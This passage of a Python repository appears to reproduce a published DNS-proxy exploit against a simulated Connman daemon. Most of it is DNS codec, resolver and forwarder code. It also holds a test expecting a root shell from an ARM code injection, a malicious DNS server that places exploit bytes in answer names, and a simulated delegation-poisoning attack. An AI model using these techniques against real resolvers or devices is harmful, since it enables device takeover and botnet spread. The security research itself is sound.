        exploit = ArmCodeInjection().build(knowledge_arm_plain)
        victim = fresh_daemon("arm", profile=NONE)
        report = deliver(exploit, victim, rtype=RecordType.AAAA)
        assert report.got_root_shell

    def test_benign_aaaa_still_cached(self):
        from repro.dns import ResourceRecord, make_query, make_response

        daemon = fresh_daemon("x86")
        query = make_query(5, "v6.example")
        reply = make_response(query, (ResourceRecord.aaaa("v6.example", "2001:db8::9"),))
        event = daemon.handle_upstream_reply(reply.encode(), expected_id=5)
        assert event.kind == EventKind.RESPONDED

    def test_unknown_rtype_parses_but_does_not_cache(self):
        from repro.dns import ResourceRecord, RecordClass, make_query, make_response

        daemon = fresh_daemon("x86")
        query = make_query(6, "txtish.example")
        txt = ResourceRecord.txt("txtish.example", b"hello")
        reply = make_response(query, (txt,))
        event = daemon.handle_upstream_reply(reply.encode(), expected_id=6)
        assert event.kind == EventKind.RESPONDED
        assert event.cached == []


class TestStackGuardPage:
    def test_guard_mapped_below_stack(self):
        daemon = fresh_daemon("x86")
        maps = daemon.loaded.process.memory.maps()
        assert "stack-guard" in maps
        guard = daemon.loaded.process.memory.segment("stack-guard")
        assert guard.end == daemon.loaded.layout.stack_base

    def test_descending_runaway_faults_on_guard(self):
        """A wild push loop dies at the guard instead of corrupting
        whatever lies below the stack."""
        daemon = fresh_daemon("x86")
        process = daemon.loaded.process
        process.sp = daemon.loaded.layout.stack_base + 8
        with pytest.raises(AccessViolation):
            for _ in range(8):
                process.push_u32(0x41414141)

    def test_guard_not_readable(self):
        daemon = fresh_daemon("arm")
        guard = daemon.loaded.process.memory.segment("stack-guard")
        with pytest.raises(AccessViolation):
            daemon.loaded.process.memory.read(guard.base, 1)

    def test_guard_not_executable_even_without_wx(self):
        daemon = fresh_daemon("x86", profile=NONE)  # stack is RWX here
        guard = daemon.loaded.process.memory.segment("stack-guard")
        from repro.mem import WxViolation

        with pytest.raises(WxViolation):
            daemon.loaded.process.memory.fetch(guard.base, 1)
