"""A caching DNS forwarder — the shared resolver in front of an IoT fleet.

Home routers and ISP CPE commonly run a forwarder: clients' queries are
relayed byte-for-byte to whichever upstream the forwarder believes is
authoritative, and *that byte-for-byte relaying is the §III-D attack
conduit*: "a cache poisoning attack could be used to force traffic to a
domain, at which point exploit code designed to create a botnet could be
sent to visitors, allowing a recreation of the Mirai attack".

The forwarder keeps two poisonable tables:

* an **answer cache** (name → response bytes) refreshed from upstreams;
* a **delegation table** (domain suffix → upstream transport) that says
  where queries for a zone go.

An off-path attacker who wins one guessed-id race against the *forwarder*
plants a delegation for a popular zone pointing at their own server; every
device that later resolves anything under that zone receives the exploit
through the legitimate, trusted forwarder.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable, Dict, List, Optional, Tuple

from .message import Message

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..obs import Collector

Transport = Callable[[bytes], Optional[bytes]]


def _suffix_match(name: str, suffix: str) -> bool:
    name = name.lower().rstrip(".")
    suffix = suffix.lower().rstrip(".")
    return name == suffix or name.endswith("." + suffix)


@dataclass
class CachingForwarder:
    """Delegation-aware forwarder with a byte-level answer cache."""

    default_upstream: Transport
    delegations: Dict[str, Transport] = field(default_factory=dict)
    cache: Dict[Tuple[str, int], bytes] = field(default_factory=dict)
    served: int = 0
    forwarded: int = 0
    observer: Optional["Collector"] = None

    def delegate(self, suffix: str, upstream: Transport) -> None:
        """Install (or poison...) a zone delegation."""
        self.delegations[suffix.lower().rstrip(".")] = upstream

    def upstream_for(self, name: str) -> Transport:
        best: Optional[str] = None
        for suffix in self.delegations:
            if _suffix_match(name, suffix):
                if best is None or len(suffix) > len(best):
                    best = suffix
        return self.delegations[best] if best is not None else self.default_upstream

    def handle_query(self, packet: bytes) -> Optional[bytes]:
        if self.observer is None:
            return self._handle_query(packet)
        with self.observer.tracer.span("dns.forward", bytes=len(packet)) as span:
            return self._handle_query(packet, span)

    def _handle_query(self, packet: bytes, span=None) -> Optional[bytes]:
        try:
            query = Message.decode(packet)
        except Exception:
            return None
        if query.is_response or not query.questions:
            return None
        question = query.questions[0]
        key = (question.name.lower(), question.qtype)
        if span is not None:
            span.attrs["name"] = question.name
        cached = self.cache.get(key)
        if cached is not None:
            self.served += 1
            if span is not None:
                span.attrs["outcome"] = "hit"
            if self.observer is not None:
                self.observer.emit("dns", "forward.hit", name=question.name)
                self.observer.inc("forwarder.hits")
            # Re-stamp the transaction id for this client.
            return packet[:2] + cached[2:]
        upstream = self.upstream_for(question.name)
        reply = upstream(packet)
        self.forwarded += 1
        if span is not None:
            span.attrs["outcome"] = "upstream"
            span.attrs["answered"] = reply is not None
        if self.observer is not None:
            self.observer.emit("dns", "forward.upstream", name=question.name,
                               answered=reply is not None)
            self.observer.inc("forwarder.forwards")
        if reply is not None and len(reply) >= 12:
            self.cache[key] = reply
        return reply

    def flush(self) -> None:
        self.cache.clear()


@dataclass
class PoisoningResult:
    succeeded: bool
    attempts: int
    spoofs_sent: int

    def describe(self) -> str:
        verdict = "delegation poisoned" if self.succeeded else "forwarder held"
        return f"{verdict} after {self.attempts} races ({self.spoofs_sent} spoofed packets)"


class DelegationPoisoner:
    """Off-path attack on the forwarder's delegation table.

    Models the classic Kaminsky-style position: the attacker triggers the
    forwarder to query for the target zone (any open client can), races the
    legitimate reply with ``burst`` spoofed NS answers carrying guessed
    transaction ids, and on a hit the forwarder installs the attacker's
    server as the zone's upstream.
    """

    def __init__(self, forwarder: CachingForwarder, zone: str,
                 attacker_upstream: Transport, *, burst: int = 1024,
                 rng: Optional[random.Random] = None):
        self.forwarder = forwarder
        self.zone = zone
        self.attacker_upstream = attacker_upstream
        self.burst = burst
        self.rng = rng or random.Random(0x90150)

    def run(self, max_attempts: int = 256) -> PoisoningResult:
        spoofs = 0
        for attempt in range(1, max_attempts + 1):
            # The forwarder's upstream query for the zone uses a random id
            # the attacker cannot see...
            true_id = self.rng.randrange(1 << 16)
            guesses = self.rng.sample(range(1 << 16), self.burst)
            spoofs += self.burst
            if true_id in guesses:
                # ...but one spoofed NS answer matched and arrived first.
                self.forwarder.delegate(self.zone, self.attacker_upstream)
                return PoisoningResult(succeeded=True, attempts=attempt, spoofs_sent=spoofs)
        return PoisoningResult(succeeded=False, attempts=max_attempts, spoofs_sent=spoofs)
