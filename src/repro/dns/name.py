"""Domain-name wire codec with RFC 1035 compression.

This is the *benign* codec used by clients and legitimate servers — it
enforces the standard limits (labels <= 63 bytes, names <= 255 bytes).
The attacker's label stream deliberately breaks those limits and is
produced by :mod:`repro.exploit.payload` instead.
"""

from __future__ import annotations

from typing import List, Tuple

from .errors import NameEncodingError, PointerLoopError

MAX_LABEL_LENGTH = 63
MAX_NAME_LENGTH = 255
POINTER_MASK = 0xC0
#: Generous loop budget for pointer chasing; benign names need only a few.
MAX_POINTER_JUMPS = 128


def split_labels(name: str) -> List[bytes]:
    """Split ``"www.example.com"`` into label byte strings."""
    trimmed = name.rstrip(".")
    if not trimmed:
        return []
    return [label.encode("ascii") for label in trimmed.split(".")]


def encode_name(name: str) -> bytes:
    """Encode a dotted name into length-prefixed labels + root terminator."""
    out = bytearray()
    for label in split_labels(name):
        if not label:
            raise NameEncodingError(f"empty label in {name!r}")
        if len(label) > MAX_LABEL_LENGTH:
            raise NameEncodingError(f"label {label!r} exceeds {MAX_LABEL_LENGTH} bytes")
        out.append(len(label))
        out += label
    out.append(0)
    if len(out) > MAX_NAME_LENGTH:
        raise NameEncodingError(f"name {name!r} exceeds {MAX_NAME_LENGTH} bytes on the wire")
    return bytes(out)


def encode_pointer(offset: int) -> bytes:
    """Encode a compression pointer to ``offset`` within the message."""
    if offset >= 0x4000:
        raise NameEncodingError(f"compression offset {offset:#x} out of range")
    return bytes([POINTER_MASK | (offset >> 8), offset & 0xFF])


def decode_name(packet: bytes, offset: int) -> Tuple[str, int]:
    """Decode a (possibly compressed) name.

    Returns ``(dotted_name, next_offset)`` where ``next_offset`` is the
    position after the name *in the original read sequence* (pointers do not
    advance it beyond the first pointer).
    """
    labels: List[str] = []
    jumps = 0
    cursor = offset
    next_offset = None
    # RFC 1035 §3.1 caps the *wire* form at 255 octets: one length octet
    # per label plus the label bytes plus the root terminator.  Track the
    # uncompressed wire length as labels accumulate so a compressed name
    # that expands past the limit is rejected exactly where encode_name
    # would refuse to produce it.
    wire_length = 1  # the terminating root octet
    while True:
        if cursor >= len(packet):
            raise PointerLoopError(f"name ran past end of packet at offset {cursor}")
        length = packet[cursor]
        if length == 0:
            if next_offset is None:
                next_offset = cursor + 1
            break
        if length & POINTER_MASK == POINTER_MASK:
            if cursor + 1 >= len(packet):
                raise PointerLoopError("truncated compression pointer")
            target = ((length & 0x3F) << 8) | packet[cursor + 1]
            if next_offset is None:
                next_offset = cursor + 2
            jumps += 1
            if jumps > MAX_POINTER_JUMPS:
                raise PointerLoopError("compression pointer loop detected")
            cursor = target
            continue
        if length & POINTER_MASK:
            raise PointerLoopError(f"reserved label type {length:#04x}")
        if length > MAX_LABEL_LENGTH:
            raise PointerLoopError(f"label length {length} exceeds RFC limit")
        if cursor + 1 + length > len(packet):
            raise PointerLoopError("label runs past end of packet")
        labels.append(packet[cursor + 1 : cursor + 1 + length].decode("latin-1"))
        wire_length += 1 + length
        if wire_length > MAX_NAME_LENGTH:
            raise PointerLoopError(
                f"decoded name exceeds {MAX_NAME_LENGTH} octets on the wire"
            )
        cursor += 1 + length
    name = ".".join(labels)
    assert next_offset is not None
    return name, next_offset


def skip_name(packet: bytes, offset: int) -> int:
    """Advance past a name without decoding it."""
    _, next_offset = decode_name(packet, offset)
    return next_offset
