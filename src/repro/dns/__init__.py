"""DNS wire protocol: codec, benign servers, stub resolver, malicious server."""

from .client import ResolveResult, StubResolver, Transport
from .errors import DnsError, MessageDecodeError, NameEncodingError, PointerLoopError
from .malicious import MaliciousDnsServer, build_raw_response, fixed_blob_server
from .message import HEADER_LENGTH, Flags, Message, Rcode, make_query, make_response
from .name import (
    MAX_LABEL_LENGTH,
    MAX_NAME_LENGTH,
    decode_name,
    encode_name,
    encode_pointer,
    skip_name,
    split_labels,
)
from .records import (
    Question,
    RecordClass,
    RecordType,
    ResourceRecord,
    bytes_to_ip4,
    bytes_to_ip6,
    ip4_to_bytes,
    ip6_to_bytes,
)
from .forwarder import CachingForwarder, DelegationPoisoner, PoisoningResult
from .resolver import ResilientResolver, UpstreamAttempt
from .server import MAX_CNAME_CHAIN, QueryLogEntry, SimpleDnsServer
from .zonefile import Zone, ZoneFileError, parse_zone

__all__ = [
    "build_raw_response",
    "bytes_to_ip4",
    "bytes_to_ip6",
    "decode_name",
    "DnsError",
    "encode_name",
    "encode_pointer",
    "fixed_blob_server",
    "Flags",
    "HEADER_LENGTH",
    "ip4_to_bytes",
    "ip6_to_bytes",
    "make_query",
    "make_response",
    "MaliciousDnsServer",
    "MAX_LABEL_LENGTH",
    "MAX_NAME_LENGTH",
    "Message",
    "MessageDecodeError",
    "NameEncodingError",
    "PointerLoopError",
    "Question",
    "QueryLogEntry",
    "Rcode",
    "RecordClass",
    "RecordType",
    "ResilientResolver",
    "ResolveResult",
    "ResourceRecord",
    "UpstreamAttempt",
    "SimpleDnsServer",
    "skip_name",
    "split_labels",
    "StubResolver",
    "Transport",
    "Zone",
    "ZoneFileError",
    "parse_zone",
    "MAX_CNAME_CHAIN",
    "CachingForwarder",
    "DelegationPoisoner",
    "PoisoningResult",
]
