"""The attacker-controlled DNS server.

As in §III of the paper: it must first "craft a legitimate response header
to each DNS query" (id echoed, QR set, question copied) or Connman dumps the
packet — then it places the exploit bytes *in the name field of the Type A
answer record*.  The name field is a raw label stream produced by the
payload planner; it deliberately violates the benign codec's limits, so it
is spliced into the packet as raw bytes here.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import Callable, List, Optional

from .message import HEADER_LENGTH, Flags, Message, Rcode
from .records import RecordClass, RecordType, ip4_to_bytes

#: Builds the malicious label stream, possibly per-query.
NameBlobFactory = Callable[[Message], bytes]


def build_raw_response(query: Message, name_blob: bytes, *, address: str = "10.99.99.99",
                       rtype: int = RecordType.A, ttl: int = 120) -> bytes:
    """Assemble response bytes with an attacker-controlled answer name."""
    flags = Flags(qr=True, rd=query.flags.rd, ra=True, rcode=Rcode.NOERROR)
    question_wire = b"".join(q.encode() for q in query.questions)
    rdata = ip4_to_bytes(address) if rtype == RecordType.A else b"\x00" * 16
    answer_wire = (
        name_blob
        + struct.pack(">HHIH", rtype, RecordClass.IN, ttl, len(rdata))
        + rdata
    )
    header = struct.pack(
        ">HHHHHH", query.id, flags.encode(), len(query.questions), 1, 0, 0
    )
    packet = header + question_wire + answer_wire
    assert len(packet) >= HEADER_LENGTH
    return packet


@dataclass
class MaliciousDnsServer:
    """Responds to every query with a crafted Type A answer."""

    name_blob_factory: NameBlobFactory
    address: str = "10.99.99.99"
    rtype: int = RecordType.A
    served: List[str] = field(default_factory=list)

    def handle_query(self, packet: bytes) -> Optional[bytes]:
        try:
            query = Message.decode(packet)
        except Exception:
            return None
        if query.is_response or not query.questions:
            return None
        blob = self.name_blob_factory(query)
        self.served.append(query.questions[0].name)
        return build_raw_response(query, blob, address=self.address, rtype=self.rtype)


def fixed_blob_server(name_blob: bytes, **kwargs) -> MaliciousDnsServer:
    """Convenience: a malicious server that always serves the same payload."""
    return MaliciousDnsServer(name_blob_factory=lambda _query: name_blob, **kwargs)
