"""Resilient upstream resolution: timeouts, retries, failover, serve-stale.

Real dnsproxy deployments sit behind lossy links (the whole §III-D MITM
story depends on it), yet our proxy path used to assume a single perfect
upstream.  :class:`ResilientResolver` wraps an ordered list of upstream
transports with resolv.conf-style semantics: try each upstream in order
(failover), then start the next retry round after an exponential backoff
with deterministic jitter.  Time is virtual — timeouts and backoffs
accumulate on :attr:`clock` instead of sleeping.

Serve-stale (RFC 8767 in spirit): the resolver itself only signals total
upstream darkness by returning ``None``; the daemon's client-query path
checks :attr:`serve_stale` and falls back to an expired cache entry, which
is the graceful-degradation half of the failure model.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import List, Optional, Sequence

from .client import Transport

ANSWERED = "answered"
TIMEOUT = "timeout"


@dataclass(frozen=True)
class UpstreamAttempt:
    """One wire attempt: which upstream, which retry round, what happened."""

    upstream: int
    round: int
    outcome: str
    backoff: float = 0.0


class ResilientResolver:
    """Ordered-failover, bounded-retry wrapper over upstream transports.

    Callable with the plain ``Transport`` signature, so it drops into
    ``ConnmanDaemon.handle_client_query`` (and anything else taking an
    upstream callable) unchanged.
    """

    def __init__(
        self,
        upstreams: Sequence[Transport],
        *,
        retries: int = 2,
        timeout: float = 2.0,
        backoff: float = 0.5,
        jitter: float = 0.25,
        serve_stale: bool = True,
        rng: Optional[random.Random] = None,
    ):
        if not upstreams:
            raise ValueError("ResilientResolver needs at least one upstream")
        self.upstreams = list(upstreams)
        self.retries = retries
        self.timeout = timeout
        self.backoff = backoff
        self.jitter = jitter
        self.serve_stale = serve_stale
        self.rng = rng or random.Random(0x5E17)
        self.clock = 0.0
        self.attempt_log: List[UpstreamAttempt] = []
        self.served = 0
        self.exhausted = 0
        self.stale_served = 0

    def __call__(self, packet: bytes) -> Optional[bytes]:
        return self.resolve(packet)

    def resolve(self, packet: bytes) -> Optional[bytes]:
        """Failover through every upstream, then retry rounds with backoff."""
        for round_number in range(1, self.retries + 2):
            if round_number > 1:
                self.clock += self._backoff_delay(round_number)
            for index in range(len(self.upstreams)):
                reply = self._attempt(packet, index, round_number)
                if reply is not None:
                    self.served += 1
                    return reply
        self.exhausted += 1
        return None

    def _attempt(self, packet: bytes, index: int, round_number: int) -> Optional[bytes]:
        reply = self.upstreams[index](packet)
        if reply is None:
            self.clock += self.timeout
            self.attempt_log.append(
                UpstreamAttempt(upstream=index, round=round_number, outcome=TIMEOUT)
            )
            return None
        self.attempt_log.append(
            UpstreamAttempt(upstream=index, round=round_number, outcome=ANSWERED)
        )
        return reply

    def _backoff_delay(self, round_number: int) -> float:
        base = self.backoff * (2 ** (round_number - 2))
        delay = base + self.rng.uniform(0.0, self.jitter)
        self.attempt_log.append(
            UpstreamAttempt(upstream=-1, round=round_number, outcome="backoff",
                            backoff=delay)
        )
        return delay

    def note_stale_serve(self) -> None:
        """Called by the proxy when a dark-upstream query was answered stale."""
        self.stale_served += 1

    def describe(self) -> str:
        return (
            f"ResilientResolver({len(self.upstreams)} upstreams, "
            f"retries={self.retries}): {self.served} served, "
            f"{self.exhausted} exhausted, {self.stale_served} stale, "
            f"virtual clock {self.clock:.2f}s"
        )
