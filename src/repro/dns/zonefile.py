"""Minimal RFC-1035-style zone file parsing.

Supports the subset real IoT lab setups use: ``$ORIGIN``/``$TTL``
directives, comments, relative and absolute names, and A / AAAA / CNAME /
TXT records.  The experiments use zone files to stand up realistic
legitimate resolvers (so the malicious server is the *anomaly*, as in the
paper's testbed).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from .errors import DnsError
from .records import RecordType, ResourceRecord


class ZoneFileError(DnsError):
    """A zone file line could not be parsed."""

    def __init__(self, line_number: int, line: str, reason: str):
        self.line_number = line_number
        self.line = line
        super().__init__(f"zone file line {line_number}: {reason}: {line!r}")


@dataclass(frozen=True)
class Zone:
    origin: str
    records: List[ResourceRecord]

    def by_type(self, rtype: int) -> List[ResourceRecord]:
        return [record for record in self.records if record.rtype == rtype]


def _qualify(name: str, origin: str) -> str:
    if name == "@":
        return origin
    if name.endswith("."):
        return name.rstrip(".")
    if not origin:
        return name
    return f"{name}.{origin}"


def parse_zone(text: str, origin: str = "", default_ttl: int = 300) -> Zone:
    """Parse zone text into records (names normalized, no trailing dot)."""
    origin = origin.rstrip(".")
    ttl = default_ttl
    records: List[ResourceRecord] = []
    last_name: Optional[str] = None

    for line_number, raw_line in enumerate(text.splitlines(), start=1):
        line = raw_line.split(";", 1)[0].rstrip()
        if not line.strip():
            continue

        if line.startswith("$ORIGIN"):
            parts = line.split()
            if len(parts) != 2:
                raise ZoneFileError(line_number, raw_line, "$ORIGIN needs one argument")
            origin = parts[1].rstrip(".")
            continue
        if line.startswith("$TTL"):
            parts = line.split()
            try:
                ttl = int(parts[1])
            except (IndexError, ValueError):
                raise ZoneFileError(line_number, raw_line, "$TTL needs an integer") from None
            continue

        # Leading whitespace means "same owner as the previous record".
        starts_indented = raw_line[:1].isspace()
        fields = line.split()
        if starts_indented:
            if last_name is None:
                raise ZoneFileError(line_number, raw_line, "no previous owner name")
            name = last_name
        else:
            name = _qualify(fields.pop(0), origin)
            last_name = name

        record_ttl = ttl
        if fields and fields[0].isdigit():
            record_ttl = int(fields.pop(0))
        if fields and fields[0].upper() == "IN":
            fields.pop(0)
        if len(fields) < 2:
            raise ZoneFileError(line_number, raw_line, "expected TYPE and RDATA")

        rtype, rdata = fields[0].upper(), " ".join(fields[1:])
        try:
            if rtype == "A":
                records.append(ResourceRecord.a(name, rdata, ttl=record_ttl))
            elif rtype == "AAAA":
                records.append(ResourceRecord.aaaa(name, rdata, ttl=record_ttl))
            elif rtype == "CNAME":
                records.append(
                    ResourceRecord.cname(name, _qualify(rdata, origin), ttl=record_ttl)
                )
            elif rtype == "TXT":
                records.append(
                    ResourceRecord.txt(name, rdata.strip('"').encode(), ttl=record_ttl)
                )
            else:
                raise ZoneFileError(line_number, raw_line, f"unsupported type {rtype}")
        except ValueError as why:
            raise ZoneFileError(line_number, raw_line, str(why)) from None

    return Zone(origin=origin, records=records)
