"""DNS record types, questions, and resource records."""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Tuple

from .errors import MessageDecodeError
from .name import decode_name, encode_name


class RecordType:
    """DNS RR type codes (RFC 1035 / 3596)."""

    A = 1
    NS = 2
    CNAME = 5
    SOA = 6
    PTR = 12
    MX = 15
    TXT = 16
    AAAA = 28
    ANY = 255

    _NAMES = {1: "A", 2: "NS", 5: "CNAME", 6: "SOA", 12: "PTR", 15: "MX",
              16: "TXT", 28: "AAAA", 255: "ANY"}

    @classmethod
    def name(cls, code: int) -> str:
        return cls._NAMES.get(code, f"TYPE{code}")


class RecordClass:
    IN = 1
    ANY = 255


def ip4_to_bytes(address: str) -> bytes:
    parts = address.split(".")
    if len(parts) != 4:
        raise ValueError(f"bad IPv4 address {address!r}")
    try:
        values = [int(part) for part in parts]
    except ValueError:
        raise ValueError(f"bad IPv4 address {address!r}") from None
    if any(not 0 <= value <= 255 for value in values):
        raise ValueError(f"bad IPv4 address {address!r}")
    return bytes(values)


def bytes_to_ip4(data: bytes) -> str:
    if len(data) != 4:
        raise ValueError(f"IPv4 rdata must be 4 bytes, got {len(data)}")
    return ".".join(str(byte) for byte in data)


def ip6_to_bytes(address: str) -> bytes:
    """Minimal IPv6 text-to-bytes supporting one ``::`` elision."""
    if "::" in address:
        head, _, tail = address.partition("::")
        head_groups = [g for g in head.split(":") if g]
        tail_groups = [g for g in tail.split(":") if g]
        missing = 8 - len(head_groups) - len(tail_groups)
        if missing < 0:
            raise ValueError(f"bad IPv6 address {address!r}")
        groups = head_groups + ["0"] * missing + tail_groups
    else:
        groups = address.split(":")
    if len(groups) != 8:
        raise ValueError(f"bad IPv6 address {address!r}")
    try:
        return b"".join(struct.pack(">H", int(group, 16)) for group in groups)
    except ValueError:
        raise ValueError(f"bad IPv6 address {address!r}") from None


def bytes_to_ip6(data: bytes) -> str:
    if len(data) != 16:
        raise ValueError(f"IPv6 rdata must be 16 bytes, got {len(data)}")
    groups = [f"{struct.unpack_from('>H', data, i)[0]:x}" for i in range(0, 16, 2)]
    return ":".join(groups)


@dataclass(frozen=True)
class Question:
    """One entry of the question section."""

    name: str
    qtype: int = RecordType.A
    qclass: int = RecordClass.IN

    def encode(self) -> bytes:
        return encode_name(self.name) + struct.pack(">HH", self.qtype, self.qclass)

    @classmethod
    def decode(cls, packet: bytes, offset: int) -> Tuple["Question", int]:
        name, offset = decode_name(packet, offset)
        if offset + 4 > len(packet):
            raise MessageDecodeError("truncated question")
        qtype, qclass = struct.unpack_from(">HH", packet, offset)
        return cls(name=name, qtype=qtype, qclass=qclass), offset + 4

    def describe(self) -> str:
        return f"{self.name} {RecordType.name(self.qtype)}"


@dataclass(frozen=True)
class ResourceRecord:
    """One answer/authority/additional record."""

    name: str
    rtype: int
    rclass: int
    ttl: int
    rdata: bytes

    @classmethod
    def a(cls, name: str, address: str, ttl: int = 300) -> "ResourceRecord":
        return cls(name, RecordType.A, RecordClass.IN, ttl, ip4_to_bytes(address))

    @classmethod
    def aaaa(cls, name: str, address: str, ttl: int = 300) -> "ResourceRecord":
        return cls(name, RecordType.AAAA, RecordClass.IN, ttl, ip6_to_bytes(address))

    @classmethod
    def cname(cls, name: str, target: str, ttl: int = 300) -> "ResourceRecord":
        return cls(name, RecordType.CNAME, RecordClass.IN, ttl, encode_name(target))

    @classmethod
    def txt(cls, name: str, text: bytes, ttl: int = 300) -> "ResourceRecord":
        if len(text) > 255:
            raise ValueError("TXT string too long")
        return cls(name, RecordType.TXT, RecordClass.IN, ttl, bytes([len(text)]) + text)

    @property
    def address(self) -> str:
        """Decoded address for A/AAAA records."""
        if self.rtype == RecordType.A:
            return bytes_to_ip4(self.rdata)
        if self.rtype == RecordType.AAAA:
            return bytes_to_ip6(self.rdata)
        raise ValueError(f"record type {RecordType.name(self.rtype)} has no address")

    def encode(self) -> bytes:
        return (
            encode_name(self.name)
            + struct.pack(">HHIH", self.rtype, self.rclass, self.ttl, len(self.rdata))
            + self.rdata
        )

    @classmethod
    def decode(cls, packet: bytes, offset: int) -> Tuple["ResourceRecord", int]:
        name, offset = decode_name(packet, offset)
        if offset + 10 > len(packet):
            raise MessageDecodeError("truncated resource record header")
        rtype, rclass, ttl, rdlength = struct.unpack_from(">HHIH", packet, offset)
        offset += 10
        if offset + rdlength > len(packet):
            raise MessageDecodeError("truncated rdata")
        rdata = packet[offset : offset + rdlength]
        return cls(name=name, rtype=rtype, rclass=rclass, ttl=ttl, rdata=rdata), offset + rdlength

    def describe(self) -> str:
        kind = RecordType.name(self.rtype)
        try:
            value = self.address
        except ValueError:
            value = self.rdata.hex()
        return f"{self.name} {self.ttl} {kind} {value}"
