"""Full DNS message codec: header, flags, and the four sections."""

from __future__ import annotations

import struct
from dataclasses import dataclass, field, replace
from typing import List, Tuple

from .errors import MessageDecodeError
from .records import Question, RecordType, ResourceRecord

HEADER_LENGTH = 12


class Rcode:
    NOERROR = 0
    FORMERR = 1
    SERVFAIL = 2
    NXDOMAIN = 3
    NOTIMP = 4
    REFUSED = 5


@dataclass(frozen=True)
class Flags:
    """The 16-bit flags word, unpacked."""

    qr: bool = False
    opcode: int = 0
    aa: bool = False
    tc: bool = False
    rd: bool = True
    ra: bool = False
    rcode: int = Rcode.NOERROR

    def encode(self) -> int:
        word = 0
        word |= int(self.qr) << 15
        word |= (self.opcode & 0xF) << 11
        word |= int(self.aa) << 10
        word |= int(self.tc) << 9
        word |= int(self.rd) << 8
        word |= int(self.ra) << 7
        word |= self.rcode & 0xF
        return word

    @classmethod
    def decode(cls, word: int) -> "Flags":
        return cls(
            qr=bool(word & 0x8000),
            opcode=(word >> 11) & 0xF,
            aa=bool(word & 0x0400),
            tc=bool(word & 0x0200),
            rd=bool(word & 0x0100),
            ra=bool(word & 0x0080),
            rcode=word & 0xF,
        )


@dataclass(frozen=True)
class Message:
    """A decoded DNS message."""

    id: int
    flags: Flags = field(default_factory=Flags)
    questions: Tuple[Question, ...] = ()
    answers: Tuple[ResourceRecord, ...] = ()
    authorities: Tuple[ResourceRecord, ...] = ()
    additionals: Tuple[ResourceRecord, ...] = ()

    @property
    def is_response(self) -> bool:
        return self.flags.qr

    def encode(self) -> bytes:
        header = struct.pack(
            ">HHHHHH",
            self.id & 0xFFFF,
            self.flags.encode(),
            len(self.questions),
            len(self.answers),
            len(self.authorities),
            len(self.additionals),
        )
        body = b"".join(question.encode() for question in self.questions)
        for section in (self.answers, self.authorities, self.additionals):
            body += b"".join(record.encode() for record in section)
        return header + body

    @classmethod
    def decode(cls, packet: bytes) -> "Message":
        if len(packet) < HEADER_LENGTH:
            raise MessageDecodeError(f"packet too short for DNS header: {len(packet)} bytes")
        message_id, flags_word, qd, an, ns, ar = struct.unpack_from(">HHHHHH", packet, 0)
        offset = HEADER_LENGTH
        questions: List[Question] = []
        for _ in range(qd):
            question, offset = Question.decode(packet, offset)
            questions.append(question)
        sections: List[List[ResourceRecord]] = [[], [], []]
        for section, count in zip(sections, (an, ns, ar)):
            for _ in range(count):
                record, offset = ResourceRecord.decode(packet, offset)
                section.append(record)
        return cls(
            id=message_id,
            flags=Flags.decode(flags_word),
            questions=tuple(questions),
            answers=tuple(sections[0]),
            authorities=tuple(sections[1]),
            additionals=tuple(sections[2]),
        )

    def describe(self) -> str:
        kind = "response" if self.is_response else "query"
        parts = [f"DNS {kind} id={self.id} rcode={self.flags.rcode}"]
        parts += [f"  ? {q.describe()}" for q in self.questions]
        parts += [f"  = {r.describe()}" for r in self.answers]
        return "\n".join(parts)


def make_query(message_id: int, name: str, qtype: int = RecordType.A) -> Message:
    return Message(id=message_id, flags=Flags(qr=False, rd=True),
                   questions=(Question(name=name, qtype=qtype),))


def make_response(query: Message, answers: Tuple[ResourceRecord, ...],
                  rcode: int = Rcode.NOERROR) -> Message:
    """A well-formed response echoing the query id and question."""
    return replace(
        query,
        flags=Flags(qr=True, rd=query.flags.rd, ra=True, aa=False, rcode=rcode),
        answers=answers,
    )
