"""A minimal stub resolver (the 'localhost client' behind Connman's proxy)."""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Callable, Optional

from .errors import DnsError
from .message import Message, Rcode, make_query
from .records import RecordType

#: A transport: query bytes in, response bytes (or None for a drop) out.
Transport = Callable[[bytes], Optional[bytes]]


@dataclass
class ResolveResult:
    name: str
    address: Optional[str]
    rcode: int

    @property
    def ok(self) -> bool:
        return self.address is not None


@dataclass
class StubResolver:
    """Builds queries with random ids and interprets responses."""

    rng: random.Random = field(default_factory=lambda: random.Random(0))

    def build_query(self, name: str, qtype: int = RecordType.A) -> Message:
        return make_query(self.rng.randrange(1 << 16), name, qtype)

    def resolve(self, transport: Transport, name: str,
                qtype: int = RecordType.A) -> ResolveResult:
        query = self.build_query(name, qtype)
        raw = transport(query.encode())
        if raw is None:
            return ResolveResult(name=name, address=None, rcode=Rcode.SERVFAIL)
        response = Message.decode(raw)
        if response.id != query.id:
            raise DnsError(f"response id {response.id} != query id {query.id}")
        for record in response.answers:
            if record.rtype == qtype:
                return ResolveResult(name=name, address=record.address,
                                     rcode=response.flags.rcode)
        return ResolveResult(name=name, address=None, rcode=response.flags.rcode)
