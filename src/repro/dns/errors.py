"""DNS codec error types."""

from __future__ import annotations


class DnsError(Exception):
    """Base class for DNS protocol errors."""


class NameEncodingError(DnsError):
    """A domain name violates wire-format limits (label > 63, name > 255)."""


class MessageDecodeError(DnsError):
    """A packet could not be parsed as a DNS message."""


class PointerLoopError(MessageDecodeError):
    """Compression pointers formed a loop (or exceeded the jump budget)."""
