"""DNS server implementations (benign)."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from .message import Message, Rcode, make_response
from .name import decode_name
from .records import RecordType, ResourceRecord

MAX_CNAME_CHAIN = 8


@dataclass
class QueryLogEntry:
    name: str
    qtype: int
    answered: bool


@dataclass
class SimpleDnsServer:
    """An authoritative-ish resolver over an in-memory zone.

    Transport-agnostic: :meth:`handle_query` maps request bytes to response
    bytes; the network simulation (or a test) moves the packets.  Supports
    A/AAAA lookups, CNAME chains, and an optional wildcard default.
    """

    zone: Dict[str, str] = field(default_factory=dict)
    zone6: Dict[str, str] = field(default_factory=dict)
    cnames: Dict[str, str] = field(default_factory=dict)
